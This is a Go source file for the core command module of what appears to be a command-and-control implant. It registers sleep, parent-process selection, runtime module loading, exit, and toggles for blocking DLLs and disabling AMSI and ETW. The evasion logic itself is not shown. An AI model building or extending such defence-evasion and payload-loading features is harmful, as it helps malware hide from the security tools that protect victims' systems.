// Package core is the built-in "Core" module every agent starts with.
// Its commands adjust the agent's own behavior: sleep timing, the
// parent process for spawned work, the evasion toggles, shutdown, and
// loading further modules at runtime.
package core

import (
	"context"

	"drone/internal/module"
	"drone/internal/process"
	"drone/internal/settings"
	"drone/util"
)

// Name is the name the module registers under.
const Name = "Core"

// Loader turns a module blob into a descriptor ready to register.
type Loader interface {
	Load(ctx context.Context, blob []byte) (module.Descriptor, error)
}

// Module implements the Core commands against one agent and its
// configuration store.
type Module struct {
	agent    module.Facade
	store    *settings.Store
	loader   Loader
	resolver process.Resolver
	logger   *util.Logger
}

// Option configures a Module.
type Option func(*Module)

// WithLoader sets the loader used by LoadModule.  Without one,
// LoadModule always fails.
func WithLoader(l Loader) Option {
	return func(m *Module) { m.loader = l }
}

// WithResolver replaces the operating-system process resolver.
func WithResolver(r process.Resolver) Option {
	return func(m *Module) { m.resolver = r }
}

// WithLogger sets the logger.
func WithLogger(l *util.Logger) Option {
	return func(m *Module) { m.logger = l }
}

// New returns the Core module bound to agent and store.
func New(agent module.Facade, store *settings.Store, opts ...Option) *Module {
	m := &Module{
		agent:    agent,
		store:    store,
		resolver: process.System{},
	}
	for _, opt := range opts {
		opt(m)
	}
	if m.logger == nil {
		m.logger = util.NewLogger(0)
	}
	return m
}

// Descriptor lists the Core commands in their canonical order.
func (m *Module) Descriptor() module.Descriptor {
	return module.Descriptor{
		Name: Name,
		Commands: []module.Command{
			{Name: "Sleep", Handler: m.sleep},
			{Name: "LoadModule", Handler: m.loadModule},
			{Name: "PPID", Handler: m.ppid},
			{Name: "BlockDLLs", Handler: m.toggle(settings.BlockDLLs)},
			{Name: "DisableAMSI", Handler: m.toggle(settings.DisableAMSI)},
			{Name: "DisableETW", Handler: m.toggle(settings.DisableETW)},
			{Name: "Exit", Handler: m.exit},
		},
	}
}
